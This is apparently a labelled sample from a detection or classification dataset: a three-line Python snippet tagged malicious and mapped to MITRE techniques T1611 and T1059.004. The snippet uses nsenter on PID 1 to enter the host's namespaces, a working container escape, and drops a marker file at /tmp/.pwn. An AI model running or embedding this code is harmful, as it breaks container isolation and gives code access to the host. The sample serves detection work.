# label: malicious family=k8s techniques=T1611,T1059.004 lines=3
import subprocess
subprocess.run(["nsenter", "--target", "1", "--mount", "--uts", "--ipc", "--net", "--pid", "--", "/bin/sh", "-c", "id > /tmp/.pwn"])
